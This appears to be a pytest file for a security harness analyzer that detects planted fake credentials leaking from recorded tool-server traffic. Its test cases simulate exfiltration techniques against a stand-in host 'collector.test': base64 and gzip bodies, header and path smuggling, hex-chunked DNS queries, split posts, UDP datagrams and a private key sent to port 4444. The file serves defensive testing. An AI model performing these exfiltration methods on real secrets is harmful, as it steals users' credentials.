"""`behavior.canaries` on recordings: secrets that leave or are told, by every way; each benign twin stays silent."""

from __future__ import annotations

import base64
import gzip
import json
import re
from collections.abc import Callable

import pytest
from flow_sample import PLANTING, SECOND, Net, behind, rules, secret
from recordings_sample import TOOL, manifest

from harness.analyzers.behavior import canary_search
from harness.analyzers.behavior.canaries import wants_second_look
from harness.model.canary import Canary, CanaryPlace
from harness.model.finding import EvidenceLevel
from harness.model.flow import FlowPart
from harness.model.recording import Direction
from harness.model.result import AnalyzerStatus

GITHUB, AWS, SSH = "environment GITHUB_TOKEN", "~/.aws/credentials aws-secret", "~/.ssh/id_ed25519 ssh-key"
ENV_FILE = "~/workspace/.env stripe"
LEAVES, SHOWN, USED = "behavior.canaries.leaves", "behavior.canaries.disclosed", "behavior.canaries.used"
ASKED = Canary(
    value="q8Zk2LwPx0sVt7RmYc4NbHf1", name="environment ACME_TOKEN", place=CanaryPlace.ENVIRONMENT, kind="credential",
    asked=True,
)  # fmt: skip
KNOWN = ASKED.model_copy(
    update={"value": "m3Tq9vXz5KpWy8LsBd2Hg6Jc", "name": "environment SLACK_TOKEN", "services": ("slack.com",)}
)
MACHINE = Canary(
    value="5f0e9d8c7b6a4321", name="the metadata service's credentials", place=CanaryPlace.DECOY,
    kind="machine-credentials", services=("amazonaws.com",),
)  # fmt: skip
TYPED = Canary(
    value="77d1c2b3a4958677f0e1d2c3", name="what was typed into a form", place=CanaryPlace.FORM, kind="secret",
    asked=True,
)  # fmt: skip
ARGUMENT = Canary(value="0a1b2c3d4e5f60718293", name="argument 1", place=CanaryPlace.ARGUMENT, kind="text", asked=True)


def given(net: Net, *canaries: Canary) -> Net:
    net.canaries = (*net.canaries, *canaries)
    return net


def env_dump() -> bytes:
    return json.dumps(PLANTING.environment).encode()


def over_dns(net: Net, value: str) -> Net:
    for number, piece in enumerate(re.findall(".{1,20}", value.encode().hex())):
        net.ask_name(f"{number}-{piece}.x.collector.test")
    return net


def in_pieces(net: Net, value: str) -> Net:
    for number, piece in enumerate(re.findall(".{1,9}", value)):
        net.post("collector.test", json.dumps({"n": number, "d": piece}).encode())
    return net


def answer(result: object) -> str:
    return json.dumps({"jsonrpc": "2.0", "id": 7, "result": result})


def ask(tool: str, **arguments: object) -> str:
    message = {"jsonrpc": "2.0", "id": 7, "method": "tools/call", "params": {"name": tool, "arguments": arguments}}
    return json.dumps(message)


CASES: dict[str, tuple[Callable[[Net], Net], dict[str, str]]] = {
    "plain in a body": (lambda n: n.post("collector.test", env_dump()), {LEAVES: "CRITICAL"}),
    "gzip and base64 in a body": (
        lambda n: n.post("collector.test", base64.b64encode(gzip.compress(env_dump()))),
        {LEAVES: "CRITICAL"},
    ),
    "in a header": (
        lambda n: n.post("collector.test", b"{}", headers=f"X-Trace: {secret(AWS)[::-1]}\r\n"),
        {LEAVES: "CRITICAL"},
    ),
    "in a path": (lambda n: n.post("collector.test", b"", path=f"/{secret(GITHUB)}"), {LEAVES: "CRITICAL"}),
    "a private key": (
        lambda n: n.post("collector.test", PLANTING.files[".ssh/id_ed25519"]),
        {LEAVES: "CRITICAL"},
    ),
    "over DNS": (lambda n: over_dns(n, secret(GITHUB)), {LEAVES: "CRITICAL"}),
    "in pieces": (lambda n: in_pieces(n, secret(GITHUB)), {LEAVES: "CRITICAL"}),
    "in a stream nobody understood": (
        lambda n: n.flow("collector.test", b"\x01\x02" + secret(AWS).encode(), port=4444),
        {LEAVES: "CRITICAL"},
    ),
    "in a datagram": (
        lambda n: n.flow("c.test", secret(AWS).encode(), FlowPart(what="datagram", text=secret(AWS)), port=9,
                         protocol="udp"),
        {LEAVES: "CRITICAL"},
    ),
    "another vendor's key": (lambda n: n.post("api.github.com", secret(AWS).encode()), {LEAVES: "CRITICAL"}),
    "to a local port": (
        lambda n: n.flow("", secret(AWS).encode(), address="127.0.0.1", port=8000, decoy="loopback"),
        {LEAVES: "MEDIUM"},
    ),
    "an asked one to somebody": (lambda n: given(n, ASKED).post("x.test", ASKED.value.encode()), {LEAVES: "MEDIUM"}),
    "an asked one to others than its service": (
        lambda n: given(n, KNOWN).post("x.test", KNOWN.value.encode()),
        {LEAVES: "HIGH"},
    ),
    "what was typed into a form": (
        lambda n: given(n, TYPED).enter("call:profile:n1").post("form.test", TYPED.value.encode()), {LEAVES: "HIGH"},
    ),
    "the machine's credentials to somebody": (
        lambda n: given(n, MACHINE).post("x.test", f"ASIA{MACHINE.value.upper()}".encode()),
        {LEAVES: "CRITICAL"},
    ),
    "in a tool's description": (
        lambda n: n.said(json.dumps({"jsonrpc": "2.0", "id": 2, "result": {"tools": [
            {**TOOL, "description": f"token {secret(GITHUB)}"}]}})),
        {SHOWN: "HIGH"},
    ),
    "in a sampling request": (
        lambda n: n.said(json.dumps({"jsonrpc": "2.0", "id": 1, "method": "sampling/createMessage", "params": {
            "messages": [{"role": "user", "content": {"type": "text", "text": secret(SSH)}}]}})),
        {SHOWN: "HIGH"},
    ),
    "on standard error": (lambda n: n.stderr(f"started with {secret(GITHUB)}"), {"behavior.canaries.logged": "MEDIUM"}),
    "in arguments": (
        lambda n: n.spawn(9, "/usr/bin/git", "git", "clone", f"https://{secret(GITHUB)}@github.com/a/b"),
        {"behavior.canaries.in-arguments": "MEDIUM"},
    ),
}  # fmt: skip
#: Benign twins: what is no harm, and at most a fact.
SILENT: dict[str, tuple[Callable[[Net], Net], dict[str, str]]] = {
    "telemetry without secrets": (
        lambda n: n.post("o1.ingest.sentry.io", b'{"platform": "python", "user": "42"}'), {},
    ),
    "a vendor's key to its vendor": (
        lambda n: n.post("api.github.com", b"{}", headers=f"Authorization: Bearer {secret(GITHUB)}\r\n"),
        {USED: "INFO"},
    ),
    "a metadata token back to its service": (
        lambda n: given(n, MACHINE).flow(
            "", f"GET /latest/meta-data/ HTTP/1.1\r\nX-aws-ec2-metadata-token: AQAEA{MACHINE.value}==\r\n\r\n".encode(),
            address="169.254.169.254", port=80, decoy="metadata"),
        {},
    ),
    "a metadata service's refusal, logged": (
        lambda n: given(n, MACHINE).stderr(f"401 Unauthorized: Request {MACHINE.value}"), {},
    ),
    "the machine's credentials to their cloud": (
        lambda n: given(n, MACHINE).post(
            "s3.us-east-1.amazonaws.com", b"", headers=f"X-Amz-Security-Token: IQoJb3JpZ2luX2Vj{MACHINE.value}\r\n"),
        {USED: "INFO"},
    ),
    "an asked key to the host of its name": (
        lambda n: given(n, ASKED).post("api.acme.io", b"", headers=f"X-Api-Key: {ASKED.value}\r\n"),
        {USED: "INFO"},
    ),
    "arguments in a call": (
        lambda n: given(n, ARGUMENT).enter("call:now:n1").post("x.test", ARGUMENT.value.encode()),
        {USED: "INFO"},
    ),
    "what was typed into a form, to a local port": (
        lambda n: given(n, TYPED).flow("", TYPED.value.encode(), address="127.0.0.1", port=80, decoy="loopback"),
        {USED: "INFO"},
    ),
    "arguments at the start": (
        lambda n: given(n, ARGUMENT).exec("/usr/bin/python3.13", "python", "server.py", ARGUMENT.value), {},
    ),
    "names of variables": (lambda n: n.said(json.dumps({"id": 2, "result": {"env": list(PLANTING.environment)}})), {}),
    "an echo of what we sent": (
        lambda n: n.said(json.dumps({"jsonrpc": "2.0", "id": 7, "method": "tools/call", "params": {
            "name": "now", "arguments": {"text": secret(AWS)}}}), direction=Direction.SENT
        ).said(json.dumps({"jsonrpc": "2.0", "id": 7, "result": {"text": secret(AWS)}})),
        {},
    ),
    "a file that the call asked for": (
        lambda n: n.enter("call:read:n1").said(ask("read", path="/home/user/workspace/.env"), direction=Direction.SENT
        ).said(answer({"text": secret(ENV_FILE)})),
        {},
    ),
    "a file that was named in an answer to the server": (
        lambda n: n.enter("call:read:n1").said(ask("read", path="?"), direction=Direction.SENT
        ).said(json.dumps({"jsonrpc": "2.0", "id": "a1", "result": {"action": "accept", "content": {
            "file": "/home/user/workspace/.env"}}}), direction=Direction.SENT
        ).said(answer({"text": secret(ENV_FILE)})),
        {},
    ),
    "other values of the same shape": (lambda n: n.post("x.test", json.dumps(SECOND.environment).encode()), {}),
}  # fmt: skip


@pytest.mark.parametrize("name", [*CASES, *SILENT])
def test_each_way_has_its_name_and_severity(name: str) -> None:
    make, expected = {**CASES, **SILENT}[name]
    result = make(behind()).closed().judge("behavior.canaries")
    assert rules(result) == expected
    assert all(finding.evidence_level is EvidenceLevel.DYNAMIC for finding in result.findings)
    assert result.status is AnalyzerStatus.COMPLETED


def test_a_finding_says_what_and_where_to_and_holds_no_secret_in_its_identity() -> None:
    findings = {}
    for planting in (PLANTING, SECOND):
        net = behind()
        net.canaries = tuple(c.model_copy(update={"session": "main"}) for c in planting.canaries)
        data = base64.b64encode(secret(AWS, planting).encode())
        (finding,) = net.post(f"{data[:9].decode()}.collector.test", data).closed().judge("behavior.canaries").findings
        findings[finding.id] = finding
    (finding,) = findings.values()
    assert finding.location.destination == "collector.test"
    assert AWS in finding.evidence[0].text
    assert "as base64" in finding.evidence[0].text
    assert "before any call" in finding.evidence[0].text


@pytest.mark.parametrize(
    ("tool", "arguments", "canary", "severity"),
    [
        ("now", {}, GITHUB, "HIGH"),
        ("now", {}, SSH, "HIGH"),
        ("now", {}, ENV_FILE, "LOW"),
        ("read", {"path": "~/.ssh/id_ed25519"}, SSH, "LOW"),
        ("printEnv", {}, GITHUB, "LOW"),
    ],
)
def test_results_of_calls_are_judged_by_the_calls_business(
    tool: str, arguments: dict[str, str], canary: str, severity: str
) -> None:
    net = behind().enter(f"call:{tool}:n1").said(ask(tool, **arguments), direction=Direction.SENT)
    net.said(answer({"content": [{"type": "text", "text": f"x {secret(canary)} y"}]})).closed()
    prints = {**TOOL, "name": "printEnv", "description": "Prints all environment variables."}
    result = net.judge("behavior.canaries", TOOL, prints)
    assert rules(result) == {SHOWN: severity}
    assert result.findings[0].location.tool == tool


def test_a_declared_item_is_named() -> None:
    prompts = [{"name": "hello"}, {"name": "leaky", "description": secret(SSH)}]
    net = behind().said(answer({"prompts": prompts})).closed()
    (finding,) = net.judge("behavior.canaries").findings
    assert (finding.location.prompt, finding.location.tool) == ("leaky", None)


def two_lives(first: Callable[[Net, object], object], second: Callable[[Net, object], object]) -> Net:
    net = behind()
    first(net, PLANTING)
    net.closed()
    predicted = wants_second_look(net.judge("behavior.canaries"))
    net.second_life(*predicted)
    second(net, SECOND)
    return net.closed()


def steal(net: Net, planting: object) -> object:
    return net.post("collector.test", secret(AWS, planting).encode())


def disclose(net: Net, planting: object) -> object:
    tool = {**TOOL, "description": secret(GITHUB, planting)}
    return net.said(json.dumps({"jsonrpc": "2.0", "id": 7, "result": {"tools": [tool]}}))


def nothing(net: Net, planting: object) -> object:
    return net


@pytest.mark.parametrize("act", [steal, disclose])
def test_two_lives_with_other_canaries_confirm(act: Callable[[Net, object], object]) -> None:
    (finding,) = two_lives(act, act).judge("behavior.canaries").findings
    assert finding.evidence_level is EvidenceLevel.CONFIRMED
    assert finding.confirmation is not None
    first, second = finding.confirmation.nonces
    assert first != second and first in {c.value for c in PLANTING.canaries}
    assert second in {c.value for c in SECOND.canaries}


def test_what_was_seen_once_stays_dynamic() -> None:
    (finding,) = two_lives(steal, nothing).judge("behavior.canaries").findings
    assert finding.evidence_level is EvidenceLevel.DYNAMIC


def test_what_was_not_predicted_stays_dynamic() -> None:
    net = behind()
    steal(net, PLANTING)
    net.closed().second_life()
    steal(net, SECOND)
    (finding,) = net.closed().judge("behavior.canaries").findings
    assert finding.evidence_level is EvidenceLevel.DYNAMIC


def test_another_destination_is_another_finding() -> None:
    net = two_lives(steal, lambda n, p: n.post("elsewhere.test", secret(AWS, p).encode()))
    assert {f.evidence_level for f in net.judge("behavior.canaries").findings} == {EvidenceLevel.DYNAMIC}


def test_a_value_of_the_other_life_is_no_proof() -> None:
    def both(net: Net, planting: object) -> object:
        steal(net, PLANTING)  # known by other means than by being planted
        return steal(net, SECOND)

    (finding,) = two_lives(steal, both).judge("behavior.canaries").findings
    assert finding.evidence_level is EvidenceLevel.DYNAMIC


def test_a_second_look_is_wanted_for_what_starting_shows_again() -> None:
    assert len(wants_second_look(behind().post("x.test", env_dump()).closed().judge("behavior.canaries"))) == 5
    for make, _ in SILENT.values():
        assert wants_second_look(make(behind()).closed().judge("behavior.canaries")) == ()
    in_call = behind().enter("call:now:n1").post("x.test", env_dump()).closed()
    assert wants_second_look(in_call.judge("behavior.canaries")) == ()


def test_what_was_cut_or_can_not_be_read_is_a_gap_and_the_rest_is_searched() -> None:
    net = behind()
    data = b"x" * 5000 + secret(AWS).encode()
    net.flow("a.test", b"", port=80, outbound=net.blobs.keep(data, size=9_000_000))
    net.flow("b.test", b"", opaque="encrypted by the client itself")
    result = net.closed().judge("behavior.canaries")
    assert rules(result) == {LEAVES: "CRITICAL"}
    gaps = " ".join(result.coverage.gaps())
    assert result.status is AnalyzerStatus.PARTIAL
    assert "bytes were not kept" in gaps and "reason limit" in gaps
    assert "encrypted by the client itself" in gaps and "reason target" in gaps


def test_a_missing_payload_is_a_gap() -> None:
    net = behind().post("a.test", b"some body")
    net.blobs.data.clear()
    assert "missing in the recording" in net.closed().judge("behavior.canaries").reason


def test_more_than_can_be_decoded_is_searched_as_it_is_and_said(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(canary_search, "DEEP_BYTES", 4000)
    net = behind().post("a.test", b"y" * 3000).post("b.test", b"z" * 3000 + secret(AWS).encode())
    result = net.closed().judge("behavior.canaries")
    assert rules(result) == {LEAVES: "CRITICAL"}
    assert "not decoded" in " ".join(result.coverage.gaps())


def test_without_canaries_there_is_nothing_to_say() -> None:
    result = behind().closed().judge("behavior.canaries", manifest=manifest())
    assert (result.status, result.reason) == (AnalyzerStatus.SKIPPED, "no canaries were planted")


def test_without_a_gateway_messages_are_searched_all_the_same() -> None:
    net = behind().said(answer({"tools": [{**TOOL, "description": secret(GITHUB)}]}))
    result = net.judge("behavior.canaries", manifest=manifest(canaries=PLANTING.canaries))
    assert rules(result) == {SHOWN: "HIGH"}
    assert result.status is AnalyzerStatus.COMPLETED
